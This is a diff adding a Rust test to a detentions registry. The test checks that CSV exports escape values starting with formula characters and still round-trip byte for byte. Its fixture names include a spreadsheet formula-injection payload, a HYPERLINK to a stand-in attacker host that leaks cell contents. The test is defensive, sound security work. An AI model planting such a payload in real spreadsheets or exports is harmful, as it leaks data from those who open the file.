@@ -2311,3 +2311,70 @@ fn serve_demo_never_touches_the_registry_it_is_pointed_at() {
     assert_eq!(std::fs::read(r.path("registry.db")).unwrap(), real);
     assert_eq!(r.facts(), before, "the real registry is whole");
 }
+
+/// A name sent as a spreadsheet formula (`=HYPERLINK(…)` on the public form) is exported as
+/// text a spreadsheet will not run, and the export still imports back to the same values,
+/// byte for byte on the next export.
+#[test]
+fn exported_cells_are_never_formulas_and_still_round_trip() {
+    let r = Registry::sqlite();
+    r.ok(&["init"]);
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
+        "+58 0414",
+        "-Ana",
+        "@SUM(1)",
+        "'=ya con apóstrofo",
+        "'Ana",
+    ];
+    let rows: Vec<String> = (names.iter().enumerate())
+        .map(|(i, n)| {
+            let n = n.replace('"', "\"\"");
+            format!(
+                "D{i},P{i},\"{n}\",Gómez,,,F,,2024-07-30,Zulia,SEBIN,,,,recognised,1,2024-07-31,"
+            )
+        })
+        .collect();
+    let input = r.write("in.csv", &format!("{HEADER}\n{}\n", rows.join("\n")));
+    r.ok(&["import", "detentions", input.to_str().unwrap()]);
+    let e1 = r.path("e1.csv");
+    r.ok(&["export", "detentions", "--out", e1.to_str().unwrap()]);
+    let mut read = csv::Reader::from_path(&e1).unwrap();
+    let given = read
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == "given_names")
+        .unwrap();
+    let cells: Vec<String> = read
+        .records()
+        .map(|x| x.unwrap()[given].to_string())
+        .collect();
+    for cell in &cells {
+        let first = cell.chars().next().unwrap();
+        assert!(
+            !"=+-@\t\r".contains(first),
+            "a formula in the export: {cell}"
+        );
+    }
+    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")".to_string()));
+    assert!(
+        cells.contains(&"'Ana".to_string()),
+        "an apostrophe before a letter stays as it is"
+    );
+    let other = Registry::sqlite();
+    other.ok(&["init"]);
+    other.ok(&["import", "detentions", e1.to_str().unwrap()]);
+    let e2 = other.path("e2.csv");
+    other.ok(&["export", "detentions", "--out", e2.to_str().unwrap()]);
+    assert_eq!(std::fs::read(&e1).unwrap(), std::fs::read(&e2).unwrap());
+    let listed = other.ok(&[
+        "balance",
+        "--list",
+        "political_prisoners",
+        "--format",
+        "csv",
+    ]);
+    assert!(listed.contains("'=HYPERLINK"), "{listed}");
+    assert!(listed.contains("'-Ana"), "{listed}");
+}
